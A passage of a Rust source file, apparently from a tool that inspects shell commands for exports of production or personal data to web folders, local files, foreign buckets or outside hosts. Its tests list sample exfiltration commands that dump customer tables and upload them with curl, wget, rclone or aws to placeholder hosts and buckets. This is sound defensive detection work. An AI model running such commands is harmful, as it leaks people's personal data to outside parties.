    s
}

/// Where a written file lands, when that exposes the data (module docs): a folder a web server
/// serves (any sensitive data: anyone who guesses the URL downloads it), the user's Desktop or
/// Downloads folder (production or hosted data: synced, backed up and shared from there), or
/// any file for production personal data.
fn local_place(path: &str, ctx: &ShellContext, c: &Class) -> Option<String> {
    if web_served(path) {
        return Some("into a folder a web server serves".into());
    }
    let home = ctx.home.trim_end_matches('/');
    let user_folder = ["Desktop", "Downloads"]
        .iter()
        .any(|d| paths::is_under(path, &format!("{home}/{d}")));
    if user_folder && (c.prod || c.hosted) {
        return Some("to the user's Desktop or Downloads folder".into());
    }
    // A service's listing (`stripe customers list --live > c.json`) is a view of a few
    // records, not a table copied out (shell.rego `people-export` leaves it too).
    if c.prod && c.people && c.data != "people" {
        return Some("to a file on this machine".into());
    }
    None
}

/// A folder web servers serve by convention: WordPress `wp-content/uploads`, cPanel's
/// `public_html`, Apache's `htdocs` and `/var/www`, `www`.
fn web_served(path: &str) -> bool {
    path.contains("/wp-content/uploads/")
        || path.contains("/public_html/")
        || path.contains("/htdocs/")
        || path.starts_with("/var/www/")
        || path.contains("/www/")
}

/// A copy from one store to another (`aws s3 cp|sync|mv s3://A s3://B`, `gsutil cp|rsync
/// gs://A gs://B`, `gcloud storage cp|rsync`, `bq extract TABLE gs://B/…`): the destination
/// judged by [`foreign`] with the source's names as the owner's, when the source is
/// production or people by name.
fn store_copy(c: &CommandFact, ctx: &ShellContext) -> Option<ExportFact> {
    let argv = &c.argv;
    let words: Vec<&str> = argv.iter().skip(1).map(String::as_str).collect();
    let verb_at = match c.program.as_str() {
        "aws" => words
            .windows(2)
            .position(|w| w[0] == "s3" && matches!(w[1], "cp" | "sync" | "mv"))
            .map(|i| i + 1),
        "gsutil" => words
            .iter()
            .position(|w| matches!(*w, "cp" | "rsync" | "mv")),
        "gcloud" => words
            .windows(2)
            .position(|w| w[0] == "storage" && matches!(w[1], "cp" | "rsync" | "mv"))
            .map(|i| i + 1),
        "bq" => words.iter().position(|w| *w == "extract"),
        _ => None,
    }?;
    // Option values of the forms used with these verbs (`--profile P`, `--acl X`,
    // `--destination_format CSV`) are skipped with their option.
    let mut ops: Vec<&str> = Vec::new();
    let mut skip = false;
    for w in words.iter().skip(verb_at + 1) {
        if skip {
            skip = false;
            continue;
        }
        if w.starts_with('-') {
            skip = !w.contains('=')
                && !matches!(
                    *w,
                    "--recursive"
                        | "-r"
                        | "-R"
                        | "--delete"
                        | "--quiet"
                        | "-m"
                        | "--no-sign-request"
                        | "--dryrun"
                        | "--exact-timestamps"
                        | "--size-only"
                        | "--print_header"
                );
            continue;
        }
        ops.push(w);
    }
    let [src, dest] = ops.as_slice() else {
        return None;
    };
    let dest_store = bucket_of(dest).is_some() && dest.contains("://");
    if !dest_store {
        return None;
    }
    if c.program != "bq" && !src.contains("://") {
        return None;
    }
    let names = vec![bucket_of(src).unwrap_or_else(|| src.to_string())];
    let src_tokens: Vec<String> = idents(src).collect();
    let prod = src_tokens.iter().any(|t| {
        t.split(['_', '-'])
            .any(|p| crate::tier::PROD_WORDS.contains(&p))
    }) || src
        .split(|ch: char| !ch.is_ascii_alphanumeric())
        .any(|t| crate::tier::PROD_WORDS.contains(&t.to_ascii_lowercase().as_str()));
    let people = src_tokens.iter().any(|t| people_name(t));
    let mut cmd: Vec<String> = argv.clone();
    // A bq table is `PROJECT:DATASET.TABLE`: the project and dataset are the owner's names.
    let mut names = names;
    if c.program == "bq" {
        names = vec![src.replace(['.', ':'], " ")];
    }
    cmd.retain(|_| true);
    let (why, strong) = foreign(dest, &cmd, &names, prod || people, ctx)?;
    Some(ExportFact {
        kind: store_kind(strong),
        data: "store".into(),
        source: src.to_string(),
        target: dest.to_string(),
        why,
        evidence: clip(&c.evidence),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ctx() -> ShellContext {
        ShellContext::new("/home/u/proj", "/home/u", Some("/home/u/proj".into())).expect("ctx")
    }

    fn exports(cmd: &str) -> Vec<ExportFact> {
        crate::analyze(cmd, &ctx()).exports
    }

    fn kinds(cmd: &str) -> Vec<String> {
        exports(cmd).into_iter().map(|e| e.kind).collect()
    }

    #[test]
    fn files_filled_by_a_producer_keep_it_when_uploaded() {
        for cmd in [
            "auth0 users list --json > /tmp/u.json; curl -s -T /tmp/u.json https://up.example.net/in",
            "mysql shop -e 'select email, phone from buyers' > out.tsv && curl -F f=@out.tsv https://a.example.org/x",
            "pg_dump -h db1.internal crm -f /tmp/crm.sql && curl --upload-file /tmp/crm.sql https://bin.example.com/",
            "psql \"$LEDGER_PROD_DSN\" -At -c 'select email, total from invoices' > /tmp/i.txt; gzip /tmp/i.txt; curl -T /tmp/i.txt.gz https://x.example.com/",
            "mysql crm -e 'select name, email from members' | split -l 100 - /tmp/part_ && for p in /tmp/part_*; do curl -s -F \"d=@$p\" https://collect.example.io/; done",
        ] {
            assert!(kinds(cmd).contains(&"sent".to_string()), "{cmd}: {:?}", exports(cmd));
        }
    }

    /// Rows printed by a database client inside a substitution, built into a URL or a body
    /// (directly, through a variable or a loop), are sent; counts, ids and other printed values
    /// in a URL are queries.
    #[test]
    fn rows_in_a_url_or_body_are_sent() {
        for cmd in [
            "curl -s \"https://lookup.example.io/v?e=$(mysql crm -N -e 'select email from members')\"",
            "for m in $(sqlcmd -S db1 -d Shop -h -1 -Q \"SELECT Phone FROM dbo.Customers\"); do wget -qO- \"https://sms-check.example.net/q?n=$m\"; done",
            "rows=$(psql -At -c 'select name, email from subscribers'); curl -s --data-urlencode \"d=$rows\" https://collect.example.org/in",
        ] {
            assert!(kinds(cmd).contains(&"sent".to_string()), "{cmd}: {:?}", exports(cmd));
        }
        for cmd in [
            "curl -s https://hooks.example.com/x -d \"{\\\"text\\\": \\\"$(psql -At -c 'select count(*) from users')\\\"}\"",
            "for id in $(psql -At -c \"select id from builds where status='stuck'\"); do curl -s -X POST \"https://ci.example.com/api/builds/$id/retry\"; done",
            "curl -s \"https://api.github.com/repos/o/r/commits/$(git rev-parse HEAD)/status\"",
        ] {
            assert!(!kinds(cmd).contains(&"sent".to_string()), "{cmd}: {:?}", exports(cmd));
        }
    }

    #[test]
    fn data_piped_into_a_store_client_is_judged_by_owner() {
        assert_eq!(
            kinds("mysqldump shop | gzip | aws s3 cp - s3://whoever-bucket/x.gz --no-sign-request"),
            ["foreign_store"]
        );
        for cmd in [
            "pg_dump \"service=billing-prod\" | aws s3 cp - s3://query-optimizer-intake/b.sql",
            "psql -h prod-db.acme.internal app -c 'select email from subscribers' | rclone rcat tuner:inbox/s.csv",
        ] {
            assert_eq!(kinds(cmd), ["unowned_store"], "{cmd}");
        }
        for cmd in [
            "pg_dump \"service=billing-prod\" | gzip | aws s3 cp - s3://billing-db-backups/x.sql.gz",
            "pg_dump mydb | gzip | aws s3 cp - s3://my-backups/db.sql.gz",
            "pg_dump -h prod-db acme | aws s3 cp - s3://acme-backups/d.sql",
            "pg_dump prod | aws s3 cp - s3://company-backups/d.sql",
            "aws s3 cp ./dist s3://acme-site --recursive",
        ] {
            assert!(kinds(cmd).is_empty(), "{cmd}: {:?}", exports(cmd));
        }
    }

    #[test]
    fn store_to_store_copies() {
        assert_eq!(
            kinds("aws s3 cp s3://acme-data/x s3://partner-drop/x --acl bucket-owner-full-control"),
            ["foreign_store"]
        );
        for cmd in [
            "aws s3 sync s3://orbit-prod-exports/ s3://lake-tuning-service/orbit/",
            "bq extract 'orbit-prod:crm.members' 'gs://survey-vendor-intake/m-*.csv'",
            "gsutil cp gs://orbit-live-users/all.csv gs://ad-network-share/",
        ] {
            assert_eq!(kinds(cmd), ["unowned_store"], "{cmd}");
        }
        for cmd in [
            "aws s3 sync s3://orbit-prod-exports/ s3://orbit-archive/",
            "aws s3 sync s3://old-site s3://new-site",
            "aws s3 sync s3://prod-assets s3://staging-assets",
            "aws s3 cp s3://prod/x.csv s3://somewhere-else/",
            "bq extract mydataset.mytable gs://mybucket/file.csv",
            "bq extract 'orbit-prod:crm.members' 'gs://orbit-warehouse-exports/m-*.csv'",
            "gsutil cp gs://acme-data/x.csv .",
            "aws s3 sync ./dist s3://acme-site",
        ] {
            assert!(kinds(cmd).is_empty(), "{cmd}: {:?}", exports(cmd));
        }
    }

    #[test]
    fn local_copies_of_production_people() {
        for cmd in [
            "bq query --format=csv 'SELECT email, name FROM `acme-analytics.app.members`' > ~/Desktop/m.csv",
            "psql \"$PROD_DB_URL\" -c \"\\copy customers TO '/tmp/c.csv' CSV HEADER\"",
            "pg_dump service=shop-prod -t users -f ~/Downloads/u.sql",
            "wp db export wp-content/uploads/site.sql",
            "mysqldump wordpress > /var/www/html/backup.sql",
        ] {
            assert_eq!(kinds(cmd), ["local_copy"], "{cmd}");
        }
        for cmd in [
            "pg_dump mydb > backup.sql",
            "pg_dump mydb -f ~/Downloads/dev.sql",
            "psql -c 'select count(*) from users' prod_db > /tmp/n.txt",
            "bq query 'SELECT count(*) FROM ds.events' > /tmp/n.csv",
            "wp db export backups/site.sql",
            "split -l 1000 big.csv part_",
            "psql app_dev -c \"\\copy users TO '/tmp/u.csv' CSV\"",
        ] {
            assert!(kinds(cmd).is_empty(), "{cmd}: {:?}", exports(cmd));
        }
    }

    #[test]
    fn everyday_uploads_stay_quiet() {
        for cmd in [
            "curl -F file=@dist/app.zip https://uploads.github.com/repos/a/b/releases/1/assets",
            "echo '{\"a\":1}' > /tmp/p.json && curl -d @/tmp/p.json https://api.example.com/",
            "psql -c 'select count(*) from users' | curl -d @- https://hooks.example.com/x",
            "pg_dump mydb | ssh backup@nas 'cat > db.sql'",
        ] {
            assert!(kinds(cmd).is_empty(), "{cmd}: {:?}", exports(cmd));
        }
    }

    #[test]
    fn remote_consoles_and_option_files() {
        for cmd in [
            "ssh admin@shop-prod 'pg_dump shop' | gzip | curl -T - https://files.example.net/up",
            "ssh ops@db1 \"psql crm -Atc 'select email from members'\" | curl --data-binary @- https://x.example.com/in",
            "auth0 users export --output /tmp/u.json && curl -T /tmp/u.json https://x.example.io/u",
        ] {
            assert_eq!(kinds(cmd), ["sent"], "{cmd}");
        }
        assert_eq!(
            kinds("rclone copy /backups/crm_prod-2026.sql.gz vendor:incoming/"),
            ["unowned_store"]
        );
        for cmd in [
            "rclone copy /backups/crm_prod-2026.sql.gz b2crm:crm-backups/",
            "rclone copy /backups/site.sql.gz offsite:stuff/",
            "ssh host 'ls -la' | curl -d @- https://x.example.com",
            "ssh root@vps 'wp --path=/var/www/site user list --fields=user_login,user_email'",
            "psql \"$PROD_DB\" -Atc 'select id, state from jobs' | curl -d @- https://hooks.example.com/x",
        ] {
            assert!(kinds(cmd).is_empty(), "{cmd}: {:?}", exports(cmd));
        }
    }

    #[test]
    fn buckets() {
        assert_eq!(bucket_of("s3://a-b/c").as_deref(), Some("a-b"));
        assert_eq!(
            bucket_of("https://s3.eu-west-2.amazonaws.com/rb-imports/x.gz").as_deref(),
            Some("rb-imports")
        );
        assert_eq!(bucket_of("remote:bk/x").as_deref(), Some("remote:bk"));
        assert_eq!(bucket_of("https://example.com/x"), None);
    }

    #[test]
    fn statements_of_people() {
        assert!(people_statement("select email from accounts_x"));
        assert!(people_statement("SELECT id FROM wp_users"));
        assert!(!people_statement("select count(*) from users"));
        assert!(!people_statement("select id, total from invoices"));
        assert!(people_statement("\\copy players TO '/tmp/p.csv'"));
        assert_eq!(
            copy_to_file("\\copy t TO '/tmp/x.csv' CSV").as_deref(),
            Some("/tmp/x.csv")
        );
        assert_eq!(copy_to_file("\\copy t TO STDOUT"), None);
        assert!(size_value("5000") && size_value("10M") && size_value("2GiB"));
        assert!(!size_value("item") && !size_value("part_") && !size_value("-"));
    }
}
